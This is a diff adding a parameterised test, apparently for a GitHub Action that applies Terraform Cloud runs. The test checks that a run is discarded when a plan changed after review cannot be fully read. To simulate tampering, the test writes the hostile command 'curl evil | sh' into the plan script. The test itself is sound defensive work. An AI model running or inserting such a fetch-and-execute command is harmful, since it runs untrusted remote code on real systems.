@@ -70,3 +70,19 @@ test('where the token may not read it, the redacted one is compared', async () =
   expect(step.outputs['run-status']).toBe('applied')
   expect(annotated(step, 'notice')).toEqual([expect.stringContaining('role Admin')])
 })
+
+test.each([
+  ['of the reviewed run', 1],
+  ['of the run to apply', 2]
+])('where the token may read one of the whole plans, the one %s must be read as well', async (_name, nth) => {
+  await using hcp = await serve({ script: planRunning('echo good') })
+  await using github = await serveGithub()
+  const pull = github.addPullRequest({ number: 7 })
+  await runStep(hcp, onGithub(github.trigger('pull_request', pull)))
+  github.merge(pull)
+  hcp.script(planRunning('curl evil | sh'))
+  hcp.faults.set({ on: 'GET /plans/:id/json-output', do: { kind: 'answer', status: 404 }, nth })
+  const step = await runStep(hcp, onGithub(github.trigger('push', pull), { inputs }))
+  expect(step.outputs['run-status']).toBe('discarded')
+  expect(annotated(step, 'error')[0]).toContain('404')
+})
